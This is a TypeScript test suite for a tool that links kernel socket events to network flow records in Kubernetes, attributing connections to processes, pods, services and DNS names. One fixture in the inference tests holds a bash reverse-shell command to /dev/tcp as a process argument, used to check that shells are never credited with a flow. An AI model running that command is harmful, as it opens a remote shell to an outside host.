import { describe, expect, it } from 'vitest';
import { Context } from '../../src/context/context.ts';
import type { Event } from '../../src/model/event.ts';
import type { Observation } from '../../src/model/observation.ts';
import { execEvent, exitEvent, flowEvent, kprobeEvent, processFacts, sockArg } from '../support/events.ts';

const curl = processFacts('curl', { pid: 10, binary: '/usr/bin/curl', pod: 'ns/app', start: 0 });
const nc = processFacts('nc', { pid: 11, binary: '/bin/nc', pod: 'ns/app', start: 0 });
const server = processFacts('server', { pid: 12, binary: '/bin/server', pod: 'ns/db', start: 0 });

const FROM_APP = { from: 'ns/app', to: 'reserved:world' };
const OUT = 'tcp 10.244.1.10:40000 > 198.51.100.7:443';
const BACK = 'tcp 198.51.100.7:443 > 10.244.1.10:40000';

function fold(events: readonly Event[]): { context: Context; seen: Observation[] } {
  const context = new Context();
  return { context, seen: events.map(event => context.observe(event)) };
}

const connect = (tuple: string, at: number, process = curl, cookie = '1'): Event =>
  kprobeEvent(process, 'tcp_connect', [sockArg(tuple, { cookie, state: 'TCP_SYN_SENT' })], { at });
const send = (tuple: string, at: number, process = curl, cookie = '1', bytes = 100): Event =>
  kprobeEvent(
    process,
    'tcp_sendmsg',
    [sockArg(tuple, { cookie, state: 'TCP_ESTABLISHED' }), { type: 'int', label: '', value: bytes }],
    { at },
  );
const close = (tuple: string, at: number, process = curl, cookie = '1'): Event =>
  kprobeEvent(process, 'tcp_close', [sockArg(tuple, { cookie })], { at });
const datagram = (tuple: string, at: number, process = curl, cookie = '9'): Event =>
  kprobeEvent(process, 'udp_sendmsg', [sockArg(tuple, { cookie }), { type: 'int', label: '', value: 40 }], { at });
const syn = (tuple: string, at: number, more = {}): Event =>
  flowEvent(tuple, { at, tcpFlags: 'SYN', ...FROM_APP, ...more });
const synAck = (tuple: string, at: number, more = {}): Event =>
  flowEvent(tuple, { at, tcpFlags: 'SYN,ACK', isReply: true, from: 'reserved:world', to: 'ns/app', ...more });

describe('one connection of both sensors', () => {
  it('holds the connect, the flows of both directions, and the process', () => {
    const { seen } = fold([
      execEvent(curl),
      connect(OUT, 1),
      syn(OUT, 1.001),
      synAck(BACK, 1.02),
      send(OUT, 1.03),
      send(OUT, 1.04, curl, '1', 23),
      close(OUT, 1.5),
    ]);
    const connection = seen[1]?.connection;
    expect(new Set(seen.slice(1).map(o => o.connection)).size).toBe(1);
    expect(connection).toMatchObject({
      attribution: 'socket',
      flows: 2,
      bytesSent: 123,
      closed: true,
      verdict: 'FORWARDED',
    });
    expect(connection?.process?.execId).toBe('curl');
    expect(seen[3]).toMatchObject({ attribution: 'socket' });
    expect(seen[3]?.process?.execId).toBe('curl');
    expect(seen[3]?.pod).toMatchObject({ namespace: 'ns', name: 'app' });
    expect(seen[3]?.client?.ip).toBe('10.244.1.10');
    expect(seen[3]?.server).toMatchObject({ ip: '198.51.100.7', port: 443, kind: 'world' });
  });

  it('finds the process also when its socket is told of after the flow', () => {
    const { context, seen } = fold([syn(OUT, 1), connect(OUT, 1.005)]);
    expect(seen[0]?.attribution).toBe('pod');
    expect(seen[1]?.connection).toBe(seen[0]?.connection);
    expect([...context.connections()][0]?.process?.execId).toBe('curl');
    expect(context.process('curl')?.connections).toHaveLength(1);
  });

  it('takes mapped addresses of dual-stack sockets as what they are', () => {
    const mapped = 'tcp [::ffff:10.244.1.10]:40000 > [::ffff:198.51.100.7]:443';
    const { seen } = fold([connect(mapped, 1), syn(OUT, 1.001)]);
    expect(seen[1]?.attribution).toBe('socket');
    expect(seen[0]?.socket).toMatchObject({ sourceIp: '10.244.1.10', destinationIp: '198.51.100.7' });
  });

  it('stays with the process that connected when a forked child sends', () => {
    const child = processFacts('child', { pid: 20, parentExecId: 'curl', pod: 'ns/app', start: 1.1 });
    const { seen } = fold([execEvent(curl), connect(OUT, 1), syn(OUT, 1.001), send(OUT, 1.2, child), syn(OUT, 1.3)]);
    expect(seen[3]?.connection?.process?.execId).toBe('curl');
    expect(seen[3]?.process?.execId).toBe('child');
  });

  it('gives the child back to the connector when the send was told of first', () => {
    const child = processFacts('child', { pid: 20, parentExecId: 'curl', pod: 'ns/app', start: 0.5 });
    const { context } = fold([execEvent(curl), execEvent(child), send(OUT, 1.2, child), connect(OUT, 1)]);
    expect([...context.connections()].map(c => c.process?.execId)).toEqual(['curl']);
    expect(context.process('child')?.connections).toHaveLength(0);
  });

  it('knows the direction without is_reply: by the SYN, else by ports', () => {
    const dropped = { isReply: null, verdict: 'DROPPED', eventType: 1 };
    const { seen } = fold([
      syn(OUT, 1, dropped),
      flowEvent('tcp 10.0.0.9:443 > 10.244.1.10:50000', { at: 2, ...dropped, to: 'ns/app' }),
    ]);
    expect(seen[0]?.client?.port).toBe(40_000);
    expect(seen[0]?.connection?.verdict).toBe('DROPPED');
    expect(seen[1]?.client).toMatchObject({ ip: '10.244.1.10', port: 50_000 });
  });

  it('turns a guessed direction when a fact contradicts it', () => {
    const high = 'tcp 10.244.1.10:2000 > 10.0.0.9:8080';
    const { seen } = fold([send(high, 1), connect(high, 1.001, curl, '1'), syn(high, 1.002, { to: null })]);
    expect(seen[2]?.client).toMatchObject({ ip: '10.244.1.10', port: 2_000 });
    expect(seen[2]?.attribution).toBe('socket');
    expect(seen[2]?.process?.execId).toBe('curl');
  });

  it('and moves it from the list of the one process to that of the other', () => {
    const guess = 'tcp 10.244.1.20:9000 > 10.244.1.10:8080';
    const pods = { from: 'ns/db', to: 'ns/app', isReply: true };
    const { context, seen } = fold([
      execEvent(server),
      send('tcp 10.244.1.20:9000 > 10.244.1.10:8080', 1, server),
      flowEvent(guess, { at: 1.1, ...pods }),
    ]);
    expect(seen[2]?.client?.ip).toBe('10.244.1.10');
    expect(seen[2]?.connection?.serverProcess?.execId).toBe('server');
    expect(seen[2]?.connection?.process).toBeNull();
    expect(context.process('server')?.connections).toEqual([]);
  });

  it('DROPPED is not covered up by what is forwarded later', () => {
    const { seen } = fold([syn(OUT, 1), syn(OUT, 1.1, { verdict: 'DROPPED', isReply: null }), syn(OUT, 1.2)]);
    expect(seen[2]?.connection?.verdict).toBe('DROPPED');
  });
});

describe('the same addresses and ports again', () => {
  it('a connect after the close is another connection', () => {
    const { seen } = fold([
      execEvent(curl),
      execEvent(nc),
      connect(OUT, 1),
      syn(OUT, 1.001),
      synAck(BACK, 1.01),
      close(OUT, 2),
      connect(OUT, 8, nc, '2'),
      syn(OUT, 8.001),
    ]);
    expect(seen[7]?.connection).not.toBe(seen[3]?.connection);
    expect(seen[7]?.process?.execId).toBe('nc');
    expect(seen[3]?.connection?.process?.execId).toBe('curl');
  });

  it('a SYN after the FIN is another connection, a retransmitted one is not', () => {
    const { seen } = fold([
      syn(OUT, 1),
      syn(OUT, 2),
      syn(OUT, 4),
      synAck(BACK, 4.01),
      flowEvent(OUT, { at: 5, tcpFlags: 'FIN,ACK', ...FROM_APP }),
      syn(OUT, 9),
    ]);
    expect(seen[2]?.connection).toBe(seen[0]?.connection);
    expect(seen[5]?.connection).not.toBe(seen[0]?.connection);
  });

  it('packets that follow a close belong to what was closed', () => {
    const { seen } = fold([
      connect(OUT, 1),
      syn(OUT, 1.001),
      close(OUT, 1.1),
      flowEvent(OUT, { at: 1.11, tcpFlags: 'FIN,ACK', ...FROM_APP }),
    ]);
    expect(seen[3]?.connection).toBe(seen[0]?.connection);
  });

  it('datagrams of another process from the same port are another conversation, with answers to each', () => {
    const ask = 'udp 10.244.1.10:53001 > 10.96.0.10:53';
    const answer = (at: number): Event =>
      flowEvent('udp 10.96.0.10:53 > 10.244.1.10:53001', { at, isReply: true, to: 'ns/app' });
    const { seen } = fold([
      datagram(ask, 1, curl),
      flowEvent(ask, { at: 1.001, ...FROM_APP }),
      answer(1.01),
      exitEvent(curl, { at: 1.02 }),
      datagram(ask, 1.7, nc),
      flowEvent(ask, { at: 1.701, ...FROM_APP }),
      answer(1.71),
    ]);
    expect(seen[2]?.process?.execId).toBe('curl');
    expect(seen[6]?.process?.execId).toBe('nc');
    expect(seen[6]?.attribution).toBe('socket');
  });

  it('a late packet of the first joins the first', () => {
    const { seen } = fold([
      connect(OUT, 1),
      syn(OUT, 1.001),
      synAck(BACK, 1.01),
      close(OUT, 2),
      connect(OUT, 30, nc, '2'),
      flowEvent(OUT, { at: 1.5, tcpFlags: 'ACK', ...FROM_APP }),
    ]);
    expect(seen[5]?.connection).toBe(seen[0]?.connection);
  });
});

describe('sockets that say little', () => {
  it('an unconnected datagram socket is found by pod, port and time', () => {
    const { seen } = fold([
      datagram('udp 0.0.0.0:47000 > 0.0.0.0:0', 1),
      flowEvent('udp 10.244.1.10:47000 > 10.96.0.10:53', { at: 1.002, ...FROM_APP }),
      flowEvent('udp 10.244.1.11:47000 > 10.96.0.10:53', { at: 1.002, from: 'ns/other', to: null }),
      flowEvent('udp 10.244.1.10:47000 > 8.8.4.4:53', { at: 60, ...FROM_APP }),
    ]);
    expect(seen[0]?.connection).toBeNull();
    expect(seen[1]).toMatchObject({ attribution: 'socket' });
    expect(seen[1]?.process?.execId).toBe('curl');
    expect(seen[2]?.process).toBeNull();
    expect(seen[3]?.process).toBeNull();
  });

  it('a close without source port is known by its socket', () => {
    const { seen } = fold([
      connect(OUT, 1),
      close('tcp 10.244.1.10:0 > 198.51.100.7:443', 2),
      close('tcp 10.244.1.10:0 > 198.51.100.7:443', 3, curl, '77'),
    ]);
    expect(seen[1]?.connection).toBe(seen[0]?.connection);
    expect(seen[0]?.connection?.closed).toBe(true);
    expect(seen[2]?.connection).toBeNull();
  });

  it('a connect hook with the destination alone is an inference, for the one process that was about to', () => {
    const hook = (process = curl): Event =>
      kprobeEvent(
        process,
        'security_socket_connect',
        [{ type: 'sockaddr', label: '', value: { family: 'AF_INET', addr: '198.51.100.7', port: 443 } }],
        { at: 0.999 },
      );
    const one = fold([hook(), syn(OUT, 1)]);
    expect(one.seen[0]?.socket).toMatchObject({ destinationIp: '198.51.100.7', destinationPort: 443 });
    expect(one.seen[1]).toMatchObject({ attribution: 'inferred' });
    expect(one.seen[1]?.process?.execId).toBe('curl');
    const two = fold([hook(), hook(nc), syn(OUT, 1)]);
    expect(two.seen[2]?.process).toBeNull();
  });

  it('a hook that runs in whatever process was interrupted lends nobody', () => {
    const { seen } = fold([
      kprobeEvent(nc, 'tcp_retransmit_skb', [sockArg(OUT)], { at: 0.9 }),
      kprobeEvent(nc, 'ip_rcv', [{ ...sockArg(OUT), type: 'skb' }], { at: 0.95 }),
      syn(OUT, 1),
    ]);
    expect(seen[0]?.socket).toMatchObject({ destinationIp: '198.51.100.7' });
    expect(seen[1]?.socket).toMatchObject({ sourcePort: 40_000 });
    expect(seen[2]?.process).toBeNull();
  });

  it('unix sockets and empty arguments are no sockets', () => {
    const { seen } = fold([
      kprobeEvent(curl, 'security_socket_connect', [{ type: 'sockaddr', label: '', value: { family: 'AF_UNIX' } }], {
        at: 1,
      }),
      kprobeEvent(curl, 'tcp_close', [{ type: 'sock', label: '', value: null }], { at: 1 }),
      kprobeEvent(curl, 'tcp_close', [sockArg('tcp 0.0.0.0:0 > 0.0.0.0:0')], { at: 1 }),
      kprobeEvent(curl, 'tcp_close', [sockArg('tcp 10.0.0.1:70000 > 10.0.0.2:-5')], { at: 1 }),
    ]);
    expect(seen.map(o => o.connection)).toEqual([null, null, null, null]);
    expect(seen[0]?.socket).toBeNull();
  });
});

describe('the server’s side', () => {
  const IN = 'tcp 198.51.100.66:50000 > 10.244.1.20:8080';
  const AT_SERVER = 'tcp 10.244.1.20:8080 > 198.51.100.66:50000';
  const ingress = { from: 'reserved:world', to: 'ns/db', direction: 'INGRESS' };

  it('is known by its own socket events', () => {
    const { seen } = fold([
      syn(IN, 1, ingress),
      send(AT_SERVER, 1.1, server, '5'),
      flowEvent(IN, { at: 1.2, tcpFlags: 'ACK', ...ingress }),
    ]);
    expect(seen[1]?.connection).toMatchObject({ serverAttribution: 'socket', process: null });
    expect(seen[2]?.process?.execId).toBe('server');
    expect(seen[2]?.pod).toMatchObject({ namespace: 'ns', name: 'db' });
    expect(seen[2]?.attribution).toBe('socket');
  });

  it('is inferred from who had the port before, and from a listener', () => {
    const listen = kprobeEvent(
      server,
      'inet_csk_listen_start',
      [sockArg('tcp 0.0.0.0:8080 > 0.0.0.0:0', { state: 'TCP_LISTEN' })],
      { at: 0.5 },
    );
    const { seen } = fold([listen, syn(IN, 1, ingress)]);
    expect(seen[1]).toMatchObject({ attribution: 'inferred' });
    expect(seen[1]?.process?.execId).toBe('server');
    const after = fold([
      send(AT_SERVER, 1, server, '5'),
      syn('tcp 198.51.100.67:50001 > 10.244.1.20:8080', 20, ingress),
    ]);
    expect(after.seen[1]).toMatchObject({ attribution: 'inferred' });
    expect(after.seen[1]?.process?.execId).toBe('server');
  });

  it('is nobody’s when two processes had the port, or the one that had it is gone', () => {
    const other = processFacts('other', { pid: 13, pod: 'ns/db', start: 0 });
    const two = fold([
      send(AT_SERVER, 1, server, '5'),
      send('tcp 10.244.1.20:8080 > 198.51.100.68:50002', 2, other, '6'),
      syn('tcp 198.51.100.70:50003 > 10.244.1.20:8080', 20, ingress),
    ]);
    expect(two.seen[2]?.process).toBeNull();
    const gone = fold([
      send(AT_SERVER, 1, server, '5'),
      exitEvent(server, { at: 3 }),
      syn('tcp 198.51.100.67:50001 > 10.244.1.20:8080', 20, ingress),
    ]);
    expect(gone.seen[2]?.process).toBeNull();
  });

  it('accept tells both', () => {
    const accept = kprobeEvent(server, 'inet_csk_accept', [], {
      at: 1.05,
      returnValue: sockArg(AT_SERVER, { cookie: '8' }),
    });
    const { seen } = fold([accept, syn(IN, 1, ingress)]);
    expect(seen[0]?.connection).toBe(seen[1]?.connection);
    expect(seen[1]?.client?.ip).toBe('198.51.100.66');
    expect(seen[1]?.process?.execId).toBe('server');
  });

  it('both ends in pods: each process at its end', () => {
    const tuple = 'tcp 10.244.1.10:41000 > 10.244.1.20:9200';
    const pods = { from: 'ns/app', to: 'ns/db' };
    const { seen } = fold([
      connect(tuple, 1),
      syn(tuple, 1.001, pods),
      close('tcp 10.244.1.20:9200 > 10.244.1.10:41000', 2, server, '6'),
    ]);
    const connection = seen[0]?.connection;
    expect(seen[2]?.connection).toBe(connection);
    expect(connection?.process?.execId).toBe('curl');
    expect(connection?.serverProcess?.execId).toBe('server');
    expect(seen[1]?.server?.kind).toBe('pod');
  });
});

describe('pods are kept apart', () => {
  it('loopback means another machine in every pod', () => {
    const tuple = 'tcp 127.0.0.1:40000 > 127.0.0.1:8080';
    const other = processFacts('other', { pid: 10, pod: 'ns/db', start: 0 });
    const { context, seen } = fold([connect(tuple, 1), connect(tuple, 1, other, '3')]);
    expect(seen[0]?.connection).not.toBe(seen[1]?.connection);
    expect([...context.connections()].map(c => c.process?.execId).sort()).toEqual(['curl', 'other']);
  });

  it('the same 5-tuple in another pod never lends its process', () => {
    const twin = processFacts('twin', { pid: 10, pod: 'far/app', start: 0 });
    const { seen } = fold([
      kprobeEvent(twin, 'tcp_connect', [sockArg(OUT, { cookie: '4' })], { at: 1, node: 'worker-9' }),
      syn(OUT, 1.001),
      datagram('udp 0.0.0.0:5000 > 0.0.0.0:0', 2, twin),
      flowEvent('udp 10.244.1.10:5000 > 10.96.0.10:53', { at: 2.001, ...FROM_APP }),
    ]);
    expect(seen[1]?.connection).not.toBe(seen[0]?.connection);
    expect(seen[1]?.process).toBeNull();
    expect(seen[3]?.process).toBeNull();
  });

  it('a host’s process owns the host’s flow, on its own node only', () => {
    const agent = processFacts('agent', { pid: 90, binary: '/usr/bin/agent', start: 0 });
    const tuple = 'tcp 192.168.1.5:40000 > 198.51.100.7:443';
    const host = { from: 'reserved:host', to: 'reserved:world' };
    const same = fold([connect(tuple, 1, agent), syn(tuple, 1.001, host)]);
    expect(same.seen[1]?.connection?.process?.execId).toBe('agent');
    const elsewhere = fold([connect(tuple, 1, agent), syn(tuple, 1.001, { from: null, to: null, node: 'worker-2' })]);
    expect(elsewhere.seen[1]?.connection?.process).toBeNull();
  });
});

describe('services', () => {
  const vip = 'tcp 10.244.1.10:42000 > 10.96.0.50:9200';
  const backend = 'tcp 10.244.1.10:42000 > 10.244.2.20:9200';
  const service = { name: 'elasticsearch', namespace: 'ns' };

  it('a connect to a ClusterIP meets the flow to its backend', () => {
    const { seen } = fold([connect(vip, 1), syn(backend, 1.001, { to: 'ns/db', node: 'worker-2' })]);
    expect(seen[1]?.connection).toBe(seen[0]?.connection);
    expect(seen[1]?.process?.execId).toBe('curl');
    expect(seen[1]?.server).toMatchObject({ ip: '10.244.2.20', translated: '10.96.0.50', kind: 'pod' });
  });

  it('so do the flows to both, and the reply that carries both addresses', () => {
    const { seen } = fold([
      connect(vip, 1),
      syn(vip, 1.001, { destinationService: service }),
      flowEvent('tcp 10.244.2.20:9200 > 10.244.1.10:42000', {
        at: 1.01,
        isReply: true,
        sourceXlated: '10.96.0.50',
        from: 'ns/db',
        to: 'ns/app',
        tcpFlags: 'SYN,ACK',
      }),
      syn(backend, 1.02, { to: 'ns/db' }),
      close(vip, 2),
    ]);
    expect(new Set(seen.map(o => o.connection)).size).toBe(1);
    expect(seen[2]?.server).toMatchObject({ ip: '10.244.2.20', translated: '10.96.0.50', service });
    expect(seen[0]?.connection?.closed).toBe(true);
  });

  it('another connection from the same port at another time does not', () => {
    const { seen } = fold([connect(vip, 1), syn(backend, 30, { to: 'ns/db' })]);
    expect(seen[1]?.connection).not.toBe(seen[0]?.connection);
  });
});

describe('names', () => {
  const answer = (query: string, ips: string[], more = {}): Event =>
    flowEvent('udp 10.96.0.10:53 > 10.244.1.10:53002', {
      at: 0.5,
      isReply: true,
      to: 'ns/app',
      type: 'L7',
      l7Type: 'RESPONSE',
      dns: { query, ips, ...more },
    });

  it('come from the pod’s own DNS answers, without dots at the end', () => {
    const { seen } = fold([
      answer('bucket.s3.example.com.', ['198.51.100.7'], { cnames: ['edge.example.net.'] }),
      connect(OUT, 1),
      syn(OUT, 1.001),
      syn('tcp 10.244.1.11:40000 > 198.51.100.7:443', 1, { from: 'ns/other' }),
    ]);
    expect(seen[1]?.connection?.server.names).toEqual(['bucket.s3.example.com', 'edge.example.net']);
    expect(seen[2]?.server?.names).toEqual(['bucket.s3.example.com', 'edge.example.net']);
    expect(seen[3]?.server?.names).toEqual([]);
  });

  it('of the flow win over the pod’s', () => {
    const { seen } = fold([
      answer('old.example.com', ['198.51.100.7']),
      syn(OUT, 1, { destinationNames: ['new.example.com.'] }),
    ]);
    expect(seen[1]?.server?.names).toEqual(['new.example.com']);
  });

  it('failed answers teach nothing', () => {
    const { seen } = fold([answer('no.example.com', ['198.51.100.7'], { rcode: 3 }), syn(OUT, 1)]);
    expect(seen[1]?.server?.names).toEqual([]);
  });
});

describe('inference', () => {
  const scene = (processes: readonly ReturnType<typeof processFacts>[], flow: Event): Observation => {
    const { seen } = fold([...processes.map(facts => execEvent(facts)), flow]);
    return seen.at(-1) as Observation;
  };
  const named = (execId: string, args: string, extra = {}) =>
    processFacts(execId, {
      pid: Number.parseInt(execId, 36) % 30_000,
      binary: '/usr/bin/curl',
      arguments: args,
      pod: 'ns/app',
      start: 0,
      ...extra,
    });
  const flow = syn(OUT, 1);

  it('takes the one process that names the destination', () => {
    expect(scene([named('aa', '-s https://198.51.100.7/x'), named('bb', 'https://192.0.2.9/')], flow)).toMatchObject({
      attribution: 'inferred',
    });
    expect(scene([named('aa', '198.51.100.7 443')], flow).process?.execId).toBe('aa');
    expect(scene([named('aa', '-c TCP:198.51.100.7:443,x')], flow).process?.execId).toBe('aa');
  });

  it('takes names that the flow has', () => {
    const to = syn(OUT, 1, { destinationNames: ['Bucket.example.com'] });
    expect(scene([named('aa', '-T f https://bucket.example.com/f')], to).process?.execId).toBe('aa');
    expect(scene([named('aa', '-T f https://other-bucket.example.com/f')], to).process).toBeNull();
    expect(scene([named('aa', 'https://bucket.example.com.evil.test/')], to).process).toBeNull();
  });

  it('a shell that only runs the command is no rival; another namer is', () => {
    const sh = named('sh', '-c "curl https://198.51.100.7/x"', { binary: '/bin/sh' });
    const run = named('aa', 'https://198.51.100.7/x', { parentExecId: 'sh' });
    expect(scene([sh, run], flow).process?.execId).toBe('aa');
    expect(scene([sh, run, named('bb', 'https://198.51.100.7:8443/')], flow).process).toBeNull();
    expect(scene([named('aa', 'https://198.51.100.7/'), named('bb', 'https://198.51.100.7/')], flow)).toMatchObject({
      process: null,
      attribution: 'pod',
    });
  });

  it('never a shell, a launcher with children, the wrong port, another address, another pod, or one that is gone', () => {
    expect(
      scene([named('aa', '-c "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"', { binary: '/bin/bash' })], flow).process,
    ).toBeNull();
    expect(
      scene([named('aa', '198.51.100.7'), named('kid', '', { parentExecId: 'aa', binary: '/bin/psql' })], flow).process,
    ).toBeNull();
    expect(scene([named('aa', '198.51.100.7:8443')], flow).process).toBeNull();
    expect(scene([named('aa', 'http://198.51.100.7/')], flow).process).toBeNull();
    expect(scene([named('aa', '198.51.100.77')], flow).process).toBeNull();
    expect(scene([named('aa', '198.51.100.7', { pod: 'ns/other' })], flow).process).toBeNull();
    expect(scene([named('aa', '198.51.100.7', { start: 2 })], flow).process).toBeNull();
    const gone = named('aa', '198.51.100.7');
    const { seen } = fold([execEvent(gone), exitEvent(gone, { at: 0.5 }), flow]);
    expect(seen[2]?.process).toBeNull();
  });

  it('takes the only process that a boot scan found in the pod, but not one whose forks nobody saw', () => {
    const alone = named('aa', '--serve', { flags: 'procFS' });
    expect(scene([alone], flow)).toMatchObject({ attribution: 'inferred' });
    expect(scene([named('aa', '--serve')], flow).process).toBeNull();
    expect(scene([alone, named('bb', '--serve', { flags: 'procFS' })], flow).process).toBeNull();
  });

  it('gives way to a socket event, which keeps what it has', () => {
    const { context, seen } = fold([execEvent(named('aa', '198.51.100.7')), flow, connect(OUT, 1.001), syn(OUT, 1.01)]);
    expect(seen[1]).toMatchObject({ attribution: 'inferred' });
    expect(seen[3]).toMatchObject({ attribution: 'socket' });
    expect(seen[3]?.process?.execId).toBe('curl');
    expect(context.process('aa')?.connections).toHaveLength(0);
  });
});

describe('kinds of peers', () => {
  const kindOf = (ip: string, to: string | null, more = {}): string | undefined =>
    fold([syn(`tcp 10.244.1.10:40000 > ${ip}:443`, 1, { to, ...more })]).seen[0]?.server?.kind;

  it('of a flow correct what an address alone seemed to be', () => {
    const { seen } = fold([connect(OUT, 1), syn(OUT, 1.001, { to: 'reserved:remote-node', tcpFlags: 'SYN,ECE,CWR' })]);
    expect(seen[1]?.connection).toBe(seen[0]?.connection);
    expect(seen[1]?.server?.kind).toBe('remote_node');
  });

  it('come from labels, services and ranges', () => {
    expect(kindOf('198.51.100.7', 'reserved:world')).toBe('world');
    expect(kindOf('203.0.113.7', null)).toBe('world');
    expect(
      kindOf('10.96.0.10', 'reserved:world', { destinationService: { name: 'kube-dns', namespace: 'kube-system' } }),
    ).toBe('service');
    expect(kindOf('172.16.0.2', 'reserved:world')).toBe('');
    expect(kindOf('169.254.169.254', 'reserved:world')).toBe('');
    expect(kindOf('10.0.0.2', 'reserved:remote-node')).toBe('remote_node');
    expect(kindOf('10.0.0.1', 'reserved:host')).toBe('host');
    expect(kindOf('10.0.0.1', 'reserved:kube-apiserver')).toBe('kube_apiserver');
    expect(kindOf('10.244.9.9', 'ns/db')).toBe('pod');
  });
});

it('flows without ports or addresses are harmless', () => {
  const { seen } = fold([
    flowEvent('icmp 10.244.1.10:0 > 198.51.100.7:0', { at: 1, ...FROM_APP }),
    flowEvent('icmp 198.51.100.7:0 > 10.244.1.10:0', { at: 1.01, isReply: true, to: 'ns/app' }),
    flowEvent('tcp :0 > :0', { at: 2 }),
  ]);
  expect(seen[1]?.connection).toBe(seen[0]?.connection);
  expect(seen[1]?.client?.ip).toBe('10.244.1.10');
  expect(seen[2]?.connection).toBeNull();
});
